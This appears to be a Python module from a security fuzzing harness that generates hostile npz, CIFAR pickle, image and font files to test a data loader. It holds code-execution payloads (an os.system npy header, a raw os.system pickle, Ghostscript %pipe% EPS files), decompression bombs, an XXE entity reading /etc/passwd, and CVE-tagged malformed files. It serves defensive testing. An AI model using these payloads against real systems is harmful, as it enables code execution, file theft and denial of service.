"""What `--data` and `--fonts` may be given: npz files, CIFAR batches, folders of images, fonts."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from hostile.payload import Case, Payload, command_of
from hostile.payloads.callables import CALLS
from hostile.payloads.opcodes import encode
from hostile.payloads.pickles import body, cell_pickles

__all__ = ["DESCRIPTIONS", "SHAPES", "npy", "payloads", "pictures", "png"]

WAYS = ("data", "training")


def npy(descr: str, shape: str, data: bytes, version: bytes = b"\1\0") -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode("latin1")
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY" + version + struct.pack("<H", len(head) & 0xFFFF) + head + data


_LABELS = npy("'<i8'", "(8,)", bytes(64))
_IMAGES = npy("'|u1'", "(8, 28, 28, 1)", bytes(6272))


def _npz(records: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in records.items():
            archive.writestr(name, data)
    return out.getvalue()


DESCRIPTIONS = ("'|O'", "'<M8[ns]'", "'<U1000000'", "'V8'", "[('a','<f4')]", "'<f16'", "'<c16'", "'|S1000000'", "'|b1'", "'<f2'", "'>f4'", "__import__('os').system('zq7x')", "'<f4'*10**9", "(" * 200 + ")" * 200, "9" * 5000, "'zq7x\\x1b[31m'", "None", "-1", "{}", "'|V0'")  # fmt: skip
SHAPES = ("(8, 28, 28, 1)", "(1 << 40,)", "(1099511627776,)", "(-1, 28, 28, 1)", "(4611686018427387904, 4)", "()", "(0, 0, 0, 0)", "(8, 28, 28, 10**9)", "[8]", "'zq7x'", "(True, 28, 28, 1)", "(8.0, 28, 28, 1)", "(" + "1, " * 100 + ")", "(100000, 224, 224, 3)")  # fmt: skip


def _npz_files() -> Iterator[tuple[str, str, bytes]]:
    for descr in DESCRIPTIONS:
        yield (
            f"npz type {descr[:24]}",
            "numpy's own suite: headers",
            _npz({"images.npy": npy(descr, "(8, 28, 28, 1)", bytes(6272)), "labels.npy": _LABELS}),
        )
        yield (
            f"npz labels {descr[:24]}",
            "numpy's own suite: headers",
            _npz({"images.npy": _IMAGES, "labels.npy": npy(descr, "(8,)", bytes(64))}),
        )
    for shape in SHAPES:
        yield (
            f"npz shape {shape[:30]}",
            "issue 15.13: declared sizes",
            _npz({"images.npy": npy("'|u1'", shape, bytes(6272)), "labels.npy": _LABELS}),
        )
        yield (
            f"npz labels shape {shape[:30]}",
            "issue 15.13: declared sizes",
            _npz({"images.npy": _IMAGES, "labels.npy": npy("'<i8'", shape, bytes(64))}),
        )
    bomb = npy("'|u1'", f"({400 << 20}, 1, 1, 1)", bytes(400 << 20))
    yield (
        "npz bomb",
        "issue 15.13: 1.2 MB become 3 GB",
        _npz({"images.npy": bomb, "labels.npy": _LABELS}, zipfile.ZIP_DEFLATED),
    )
    yield (
        "npz bomb in labels",
        "issue 15.13",
        _npz(
            {"images.npy": _IMAGES, "labels.npy": npy("'|u1'", f"({400 << 20},)", bytes(400 << 20))},
            zipfile.ZIP_DEFLATED,
        ),
    )
    yield (
        "npz bomb elsewhere",
        "issue 15.13",
        _npz({"images.npy": _IMAGES, "labels.npy": _LABELS, "zq7x.npy": bomb}, zipfile.ZIP_DEFLATED),
    )
    for version in (b"\2\0", b"\3\0", b"\xff\0", b"\0\0"):
        yield (
            f"npz version {version[0]}",
            "numpy's own suite",
            _npz({"images.npy": npy("'|u1'", "(8, 28, 28, 1)", bytes(6272), version), "labels.npy": _LABELS}),
        )
    yield "npz twice", "an array twice", _npz({"images.npy": _IMAGES, "images": b"x", "labels.npy": _LABELS})
    yield "npz paths", "paths as names", _npz({"../../zq7x.npy": _IMAGES, "images.npy": _IMAGES, "labels.npy": _LABELS})
    yield "npz escapes", "control characters", _npz({"\x1b]0;zq7x\x07.npy": _IMAGES})
    yield "npz of 50,000 arrays", "many records", _npz({f"{n}.npy": b"" for n in range(50_000)})
    yield "npz bzip2", "another compression", _npz({"images.npy": _IMAGES, "labels.npy": _LABELS}, zipfile.ZIP_BZIP2)
    yield "npz lzma", "another compression", _npz({"images.npy": _IMAGES, "labels.npy": _LABELS}, zipfile.ZIP_LZMA)
    for name, data in {"empty": b"", "npy": _IMAGES, "zip end": b"PK\5\6" + bytes(18), "pickle": b"cos\nsystem\n(S'zq7x'\ntR.", "truncated": _npz({"images.npy": _IMAGES, "labels.npy": _LABELS})[:-40]}.items():  # fmt: skip
        yield f"npz {name}", "another file", data


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(
    width: int, height: int, *, chunks: bytes = b"", rows: bytes | None = None, depth: int = 8, colour: int = 0
) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    pixels = zlib.compress(bytes((width + 1) * height) if rows is None else rows, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + chunks + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


_EPS = (
    ("eps", b"", b""),
    ("eps, DOS", b"\xc5\xd0\xd3\xc6" + struct.pack("<IIIIII", 32, 500, 0, 0, 0, 0) + bytes(4), b""),
    ("eps, BeginBinary", b"", b"%%BeginBinary: -100\n"),
)


def _eps(command: str, extra: bytes) -> bytes:
    run = f"(%pipe%{command}) (w) file closefile\n".encode()
    head = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 28 28\n%%EndComments\n"
    return head + extra + run + b"showpage\n%%EOF\n"


def pictures() -> Iterator[tuple[str, str, Callable[[Case], bytes]]]:
    fixed: dict[str, tuple[str, Callable[[], bytes]]] = {
        "png of 20,000 x 20,000": ("Pillow: decompression bomb", lambda: png(20_000, 20_000, rows=bytes(1000))),
        "png of 2^31": ("Pillow: decompression bomb", lambda: png((1 << 31) - 1, (1 << 31) - 1, rows=b"")),
        "png of 12,000 x 12,000, whole": ("issue 15.13: 250 kB become 500 MB", lambda: png(12_000, 12_000)),
        "png of 1 x 100,000,000": ("Pillow: decompression bomb", lambda: png(1, 60_000_000, rows=bytes(1000))),
        "png text bomb": ("CVE-2014-9601", lambda: png(28, 28, chunks=_chunk(b"zTXt", b"zq7x\0\0" + zlib.compress(bytes(64 << 20), 9)) * 40)),
        "png iCCP bomb": ("CVE-2014-9601", lambda: png(28, 28, chunks=_chunk(b"iCCP", b"zq7x\0\0" + zlib.compress(bytes(200 << 20), 9)))),
        "png eXIf": ("a chunk of nonsense", lambda: png(28, 28, chunks=_chunk(b"eXIf", b"II*\0\xff\xff\xff\xff"))),
        "png 100,000 chunks": ("many chunks", lambda: png(28, 28, chunks=_chunk(b"teXt", b"") * 100_000)),
        "png 16 bit": ("another depth", lambda: png(28, 28, rows=bytes(57 * 28), depth=16)),
        "png palette without one": ("another colour", lambda: png(28, 28, colour=3)),
        "png zero": ("no pixels", lambda: png(0, 0, rows=b"")),
        "png cut": ("truncated", lambda: png(28, 28)[:60]),
        "png APNG": ("many frames", lambda: png(28, 28, chunks=_chunk(b"acTL", struct.pack(">II", 1 << 30, 0)))),
        "gif": ("CVE-2022-45198: another format", lambda: b"GIF89a\xff\xff\xff\xff\x00\0\0,\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;"),
        "tiff": ("CVE-2021-25289: another format", lambda: b"II*\0\x08\0\0\0\2\0\0\1\3\0\1\0\0\0\xff\xff\0\0\1\1\3\0\1\0\0\0\xff\xff\0\0\0\0\0\0"),
        "tiff, a cycle": ("directories without end", lambda: b"II*\0\x08\0\0\0\1\0\0\1\3\0\1\0\0\0\x1c\0\0\0\x08\0\0\0"),
        "bigtiff": ("CVE-2021-25289", lambda: b"II+\0\x08\0\0\0" + struct.pack("<Q", 1 << 60)),
        "webp": ("CVE-2023-4863", lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8L" + bytes(100)),
        "ico": ("CVE-2021-27923", lambda: b"\0\0\1\0\xff\xff" + b"\0\0\0\0\1\0 \0\xff\xff\xff\x7f\x16\0\0\0" * 50),
        "icns": ("CVE-2021-27922", lambda: b"icns\0\0\0\x20ic09\x7f\xff\xff\xff" + bytes(16)),
        "psd": ("CVE-2021-28675", lambda: b"8BPS\0\1" + bytes(6) + b"\0\4\0\0\xff\xff\0\0\xff\xff\0\x08\0\3" + bytes(20)),
        "fli": ("CVE-2021-28676", lambda: struct.pack("<IHHHH", 128, 0xAF11, 1 << 15, 320, 200) + bytes(120)),
        "blp": ("CVE-2021-28678", lambda: b"BLP2\1\0\0\0\1\x08\0\0" + struct.pack("<II", 1 << 15, 1 << 15) + bytes(2000)),
        "dds": ("CVE-2025-48379", lambda: b"DDS |\0\0\0" + struct.pack("<IIIII", 0x1007, 1 << 15, 1 << 15, 0, 0) + bytes(200)),
        "sgi": ("CVE-2020-35655", lambda: b"\1\xda\1\1\0\3\xff\xff\xff\xff\0\3" + bytes(500)),
        "pcx": ("CVE-2020-35653", lambda: b"\x0a\5\1\x08" + b"\0\0\0\0\xff\xff\xff\xff" + bytes(120)),
        "xbm": ("another format", lambda: b"#define zq7x_width 99999\n#define zq7x_height 99999\nstatic char b[] = {\n0x00};"),
        "xpm": ("another format", lambda: b"/* XPM */\nstatic char *zq7x[] = {\n\"28 28 1 1\",\n"),
        "ppm, digits": ("a number without end", lambda: b"P6 " + b"9" * 100_000),
        "ppm of 2^40": ("a bomb", lambda: b"P5 1000000 1000000 255\n"),
        "bmp": ("a bomb", lambda: b"BM" + bytes(12) + struct.pack("<IiiHHIIiiII", 40, 1 << 30, 1 << 30, 1, 24, 0, 0, 0, 0, 0, 0)),
        "jpeg": ("a bomb", lambda: b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x11\0\2\x11\0\3\x11\0\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0?\0"),
        "jpeg 2000": ("Pillow 12.3: memory", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff\x4f\xff\x51\0\x2f" + bytes(50)),
        "svg": ("another format", lambda: b"<svg onload='zq7x'/>"),
        "pdf": ("another format", lambda: b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(zq7x)>>>>"),
        "wmf": ("another format", lambda: b"\xd7\xcd\xc6\x9a" + bytes(100)),
        "fits": ("another format", lambda: b"SIMPLE  =                    T" + bytes(2880)),
        "hdf5 stub": ("another format", lambda: b"\x89HDF\r\n\x1a\n" + bytes(100)),
        "msp": ("another format", lambda: b"DanM" + bytes(100)),
        "mpo": ("another format", lambda: b"\xff\xd8\xff\xe2\0\x10MPF\0II*\0\x08\0\0\0" + bytes(100)),
        "iptc": ("another format", lambda: b"\x1c\3\x3c\0\1\0" + bytes(100)),
        "palm": ("another format", lambda: bytes(200)),
        "avif": ("another format", lambda: b"\0\0\0\x20ftypavif" + bytes(100)),
        "empty": ("no bytes", lambda: b""),
    }  # fmt: skip
    for name, (about, make) in fixed.items():
        yield name, about, lambda case, make=make: make()
    for name, head, extra in _EPS:
        yield (
            name,
            "issue 15.6, CVE-2021-28677: Ghostscript",
            lambda case, h=head, e=extra: h + _eps(command_of(case.marker), e),
        )


def _picture(make: Callable[[Case], bytes], suffix: str, copies: int = 1) -> Callable[[Case], None]:
    def write(case: Case) -> None:
        data = make(case)
        for number in range(2):
            place = case.folder / "pictures" / f"class-{number}"
            place.mkdir(parents=True)
            for copy in range(copies):
                (place / f"{copy}{suffix}").write_bytes(data)

    return write


#: A base type, the type and offset of its only field, flags, and the size of an element.
_RECORDS = tuple(
    (kind, fields, flags, length)
    for kind in ("V8", "O8", "u1", "f8", "S8")
    for fields in ("O0", "O800000", "f0", "f-8", "f1000000000")
    for flags, length in ((0, 8), (63, 8), (0, 0), (27, 1 << 30))
)


def _arrays() -> Iterator[tuple[str, bytes]]:
    """Pickles of NumPy's own types whose state is not what it should be (issue 15.4)."""
    dtype = b"cnumpy\ndtype\n" + encode(("O8", False, True)) + b"R"
    states = [(3, "|", None, None, None, -1, -1, 63), (3, "|", None, ("a",), {"a": ("O", 0)}, 1 << 30, 1, 27), (3, "<", ("f8", (1 << 30,)), None, None, -1, -1, 0), (4, "|", None, None, None, 1 << 62, -1, 63, {}), (99,), "zq7x"]  # fmt: skip
    for module in ("numpy.core.multiarray", "numpy._core.multiarray"):
        made = f"c{module}\n_reconstruct\n".encode() + b"(cnumpy\nndarray\n" + encode((0,)) + encode(b"b") + b"tR"
        for number, state in enumerate(states):
            typed = dtype + encode(state) + b"b"
            yield (
                f"{module}, dtype state {number}",
                made + b"(" + encode(1) + encode((8, 3072)) + typed + b"\x89" + encode(bytes(24576)) + b"tb",
            )
            yield f"{module}, dtype state {number} alone", typed
        for kind, fields, flags, length in _RECORDS:
            inner = dtype if "O" in fields else b"cnumpy\ndtype\n" + encode(("f8", False, True)) + b"R"
            field = b"}" + encode("a") + b"(" + inner + encode(int(fields[1:])) + b"ts"
            state = (
                b"("
                + encode(3)
                + encode("|")
                + b"N"
                + encode(("a",))
                + field
                + encode(length)
                + encode(1)
                + encode(flags)
                + b"t"
            )
            typed = b"cnumpy\ndtype\n" + encode((kind, False, True)) + b"R" + state + b"b"
            yield (
                f"{module}, record {kind} {fields} {flags} {length}",
                made + b"(" + encode(1) + encode((8, 3072)) + typed + b"\x89" + encode(bytes(range(256)) * 96) + b"tb",
            )
        for shape in ((1 << 40,), (-1,), (8, 3072, 1 << 20), (1 << 62, 4), "zq7x"):
            plain = b"cnumpy\ndtype\n" + encode(("u1", False, True)) + b"R"
            yield (
                f"{module}, shape {shape}",
                made + b"(" + encode(1) + encode(shape) + plain + b"\x89" + encode(bytes(24576)) + b"tb",
            )
        yield f"{module}, objects", made + b"(" + encode(1) + encode((8,)) + dtype + b"\x89" + encode(bytes(64)) + b"tb"
        yield f"{module}, scalar", f"c{module}\nscalar\n".encode() + b"(" + dtype + encode(bytes(8)) + b"tR"
        yield f"{module}, _frombuffer", f"c{module.replace('multiarray', 'numeric')}\n_frombuffer\n".encode() + b"(" + encode(bytes(8)) + dtype + encode((1,)) + encode("C") + b"tR"  # fmt: skip


def _batch(data: Callable[[Case], bytes], form: str = "python") -> Callable[[Case], None]:
    def write(case: Case) -> None:
        place = case.folder / "cifar" / "cifar-10-batches-py"
        place.mkdir(parents=True)
        value = data(case)
        whole = b"\x80\x02}(" + encode("labels") + encode(list(range(8))) + encode("data") + value + b"u."
        if form == "archive":
            out = io.BytesIO()
            with tarfile.open(fileobj=out, mode="w:gz") as archive:
                info = tarfile.TarInfo("cifar-10-batches-py/test_batch")
                info.size = len(whole)
                archive.addfile(info, io.BytesIO(whole))
            place.rmdir()
            (case.folder / "cifar" / "cifar-10-python.tar.gz").write_bytes(out.getvalue())
            return
        (place / "test_batch").write_bytes(whole if form == "python" else value + b".")

    return write


def _fonts() -> Iterator[tuple[str, bytes]]:
    from matplotlib import get_data_path

    good = (Path(get_data_path()) / "fonts" / "ttf" / "DejaVuSans.ttf").read_bytes()
    count = struct.unpack_from(">H", good, 4)[0]
    for number in range(count):
        place = 12 + 16 * number
        tag = good[place : place + 4].decode()
        for name, offset, value in (("offset", 8, 0xFFFFFFF0), ("length", 12, 0xFFFFFFFF), ("empty", 12, 0)):
            changed = bytearray(good)
            struct.pack_into(">I", changed, place + offset, value)
            yield f"{tag} {name}", bytes(changed)
        changed = bytearray(good)
        start = struct.unpack_from(">I", good, place + 8)[0]
        changed[start : start + 64] = b"\xff" * 64
        yield f"{tag} overwritten", bytes(changed)
    yield "tables 65535", good[:4] + b"\xff\xff" + good[6:]
    yield "collection", b"ttcf\0\1\0\0\xff\xff\xff\xff" + bytes(100)
    yield "WOFF2", b"wOF2" + bytes(100)
    yield "WOFF bomb", b"wOFF" + struct.pack(">IIHHI", 0x10000, 500, 1, 0, 1 << 31) + bytes(24) + b"glyf" + struct.pack(">IIII", 64, 20, 1 << 31, 0) + zlib.compress(bytes(1 << 20))  # fmt: skip
    yield "SVG table (CVE-2023-45139)", good.replace(b"post", b"SVG ", 1)
    yield "XML", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
    yield "empty", b""
    for cut in (4, 12, 100, 1000, len(good) // 2, len(good) - 1):
        yield f"cut at {cut}", good[:cut]


def payloads() -> Iterator[Payload]:
    """Everything that images may come from."""
    for name, about, data in _npz_files():
        yield Payload(
            "npz", name, about, lambda c, data=data: (c.folder / "m.npz").write_bytes(data) and None, "m.npz", WAYS
        )
    for name, about, call, route in cell_pickles():
        form = ("python", "archive", "whole")[len(name) % 3]
        yield Payload(
            "cifar",
            f"{name}, {form}",
            about,
            _batch(lambda c, a=call, r=route: body(a, r, c), form),
            "cifar",
            WAYS,
            (call.module,),
        )
    for name, data in _arrays():
        yield Payload("cifar", name, "issue 15.4: states of dtypes", _batch(lambda c, data=data: data), "cifar", WAYS)
    for call in CALLS[:20]:
        objects = npy("'|O'", "(1,)", b"")
        yield Payload("npz", f"objects, {call.id}", "CVE-2019-6446", lambda c, a=call, o=objects: (c.folder / "m.npz").write_bytes(_npz({"images.npy": o + body(a, "GLOBAL", c) + b".", "labels.npy": _LABELS})) and None, "m.npz", WAYS, (call.module,))  # fmt: skip
    for name, about, make in pictures():
        for suffix in (".png", ".jpg", ".tif") if "bomb" not in name else (".png",):
            yield Payload("image", f"{name} as {suffix}", about, _picture(make, suffix), "pictures", WAYS)
    yield Payload(
        "image",
        "24 large pictures",
        "issue 15.13",
        _picture(lambda c: png(6_000, 6_000), ".png", 12),
        "pictures",
        WAYS,
    )
    for name, data in _fonts():
        yield Payload("font", name, "fontTools' own suite", lambda c, data=data: _font(c, data), "fonts", ("data",))


def _font(case: Case, data: bytes) -> None:
    (case.folder / "fonts").mkdir()
    (case.folder / "fonts" / "x.ttf").write_bytes(data)
